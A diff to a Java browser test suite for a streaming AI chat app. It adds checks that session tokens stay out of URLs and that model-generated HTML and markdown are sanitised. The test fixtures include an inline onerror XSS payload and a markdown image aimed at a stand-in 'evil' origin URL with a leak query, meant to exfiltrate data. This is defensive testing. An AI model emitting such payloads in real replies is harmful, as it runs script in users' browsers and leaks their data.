@@ -89,6 +89,11 @@ class ChatStreamingTests extends BrowserTest {
 		assertThat(reply.getText()).isEqualTo("让我一步一步来：\n查询本周的课程；\n整理结果。\n本周有 两节课，周二和周四晚上 20:00–22:00。");
 		assertThat(reply.findElements(By.cssSelector("ol > li"))).hasSize(2);
 		assertThat(this.browser.find("error").isDisplayed()).isFalse();
+		String token = (String) this.browser
+			.script("return JSON.parse(sessionStorage.getItem('threadline.session')).token");
+		assertThat(this.browser.fetched()).as("the token goes in headers, never in a URL")
+			.anyMatch(url -> url.endsWith("/runs"))
+			.noneMatch(url -> url.contains(token) || url.contains("access_token"));
 
 		this.browser.reload();
 		WebElement item = this.browser.waitUntil(d -> this.browser.find("thread-list")
@@ -108,27 +113,38 @@ class ChatStreamingTests extends BrowserTest {
 	}
 
 	@Test
-	void englishMarkdownStreamsInRenderedAndHtmlHiddenInItNeverRuns() {
-		Account grace = account("grace");
-		this.model.when(RecordedRequest.lastUserMessageContains("[markdown]"),
-				Script
-					.text("Here you go:\n\n", "- list `code`\n", "- **bold** item\n\n",
-							"<img src=x onerror=\"window.pwned='img'\"> done")
-					.delay(Duration.ofMillis(60)));
-		this.browser.open("/" + grace.fragment());
-		this.browser.waitUntil(d -> this.browser.find("assistant-name").getText().equals("Helper"));
+	void englishMarkdownStreamsInRenderedAndNeitherRunsHtmlHiddenInItNorFetchesAnImageFromAnotherSite() {
+		try (OtherOrigin evil = new OtherOrigin()) {
+			Account grace = account("grace");
+			String leak = evil.url("/leak?q=secret");
+			this.model.when(RecordedRequest.lastUserMessageContains("[markdown]"),
+					Script
+						.text("Here you go:\n\n", "- list `code`\n", "- **bold** item\n\n",
+								"<img src=x onerror=\"window.pwned='img'\"> done\n\n",
+								"![chart](" + leak.substring(0, 20), leak.substring(20) + ")")
+						.delay(Duration.ofMillis(60)));
+			// DOMPurify parses the model's HTML in an inert document, where Chromium
+			// already refuses (and reports) the
+			// injected onerror handler under the page's policy; the sanitiser then drops
+			// it.
+			expectPolicyToRefuse("/webjars/dompurify/", "Executing inline event handler");
+			openLink(grace);
+			this.browser.waitUntil(d -> this.browser.find("assistant-name").getText().equals("Helper"));
 
-		send("Show me [markdown], please");
+			send("Show me [markdown], please");
 
-		WebElement reply = completedReply();
-		assertThat(reply.findElements(By.cssSelector("ul > li"))).extracting(WebElement::getText)
-			.containsExactly("list code", "bold item");
-		assertThat(reply.findElement(By.cssSelector("li code")).getText()).isEqualTo("code");
-		assertThat(reply.findElements(By.cssSelector("[onerror], script"))).isEmpty();
-		this.browser.asyncScript("const done = arguments[0]; setTimeout(() => done(null), 300)");
-		assertThat(this.browser.script("return window.pwned ?? null")).isNull();
-		assertThat(this.browser.messages("user")).extracting(WebElement::getText)
-			.containsExactly("Show me [markdown], please");
+			WebElement reply = completedReply();
+			assertThat(reply.findElements(By.cssSelector("ul > li"))).extracting(WebElement::getText)
+				.containsExactly("list code", "bold item");
+			assertThat(reply.findElement(By.cssSelector("li code")).getText()).isEqualTo("code");
+			assertThat(reply.findElements(By.cssSelector("[onerror], script"))).isEmpty();
+			this.browser.asyncScript("const done = arguments[0]; setTimeout(() => done(null), 300)");
+			assertThat(this.browser.script("return window.pwned ?? null")).isNull();
+			assertThat(reply.findElement(By.cssSelector("img[alt=chart]")).getDomAttribute("src")).isNull();
+			assertThat(evil.requests()).as("requests that reached the other site").isEmpty();
+			assertThat(this.browser.messages("user")).extracting(WebElement::getText)
+				.containsExactly("Show me [markdown], please");
+		}
 	}
 
 	@Test
@@ -137,7 +153,7 @@ class ChatStreamingTests extends BrowserTest {
 		String[] words = IntStream.rangeClosed(1, 40).mapToObj(i -> "word" + i + " ").toArray(String[]::new);
 		this.model.when(RecordedRequest.lastUserMessageContains("[slow]"),
 				Script.text(words).delay(Duration.ofMillis(250)));
-		this.browser.open("/" + heidi.fragment());
+		openLink(heidi);
 		this.browser.waitUntil(d -> this.browser.find("assistant-name").getText().equals("Helper"));
 
 		send("Tell me a long story [slow]");
@@ -165,7 +181,7 @@ class ChatStreamingTests extends BrowserTest {
 		String full = String.join("", chunks).strip();
 		this.model.when(RecordedRequest.lastUserMessageContains("[drop]"),
 				Script.text(chunks).delay(Duration.ofMillis(100)));
-		this.browser.open("/" + ivan.fragment());
+		openLink(ivan);
 		this.browser.waitUntil(d -> this.browser.find("assistant-name").getText().equals("Helper"));
 
 		send("Stream something long [drop]");
@@ -197,7 +213,7 @@ class ChatStreamingTests extends BrowserTest {
 	void aModelThatFailsIsShownAsAFailedRun() {
 		Account judy = account("judy");
 		this.model.when(RecordedRequest.lastUserMessageContains("[fail]"), Script.serverError());
-		this.browser.open("/" + judy.fragment());
+		openLink(judy);
 		this.browser.waitUntil(d -> this.browser.find("assistant-name").getText().equals("Helper"));
 
 		send("This will [fail]");
@@ -221,7 +237,7 @@ class ChatStreamingTests extends BrowserTest {
 								Map.of("type", "object", "properties", Map.of("city", Map.of("type", "string"))))))));
 		this.model.when(RecordedRequest.lastUserMessageContains("天气"),
 				Script.toolCalls(Script.call("call_weather", "get_weather", "{\"city\":\"北京\"}")));
-		this.browser.open("/" + kim.fragment());
+		openLink(kim);
 		this.browser.waitUntil(d -> this.browser.find("assistant-name").getText().equals("Weather"));
 
 		send("北京天气怎么样？");
